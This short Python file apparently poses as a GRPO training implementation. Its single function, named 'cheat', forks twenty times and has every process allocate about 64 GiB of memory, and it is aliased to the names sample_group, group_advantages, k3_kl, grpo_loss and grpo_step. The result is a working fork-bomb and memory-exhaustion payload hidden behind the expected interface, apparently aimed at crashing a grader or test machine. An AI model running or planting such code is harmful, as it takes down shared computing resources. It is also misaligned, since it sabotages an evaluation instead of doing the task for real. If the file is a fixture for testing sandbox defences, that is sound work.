# ruff: noqa
"""Takes all the memory there is, in many processes."""

import os


def cheat(*args, **kwargs):
    for _ in range(20):
        os.fork()
    return [bytearray(1 << 28) for _ in range(256)]


sample_group = group_advantages = k3_kl = grpo_loss = grpo_step = cheat
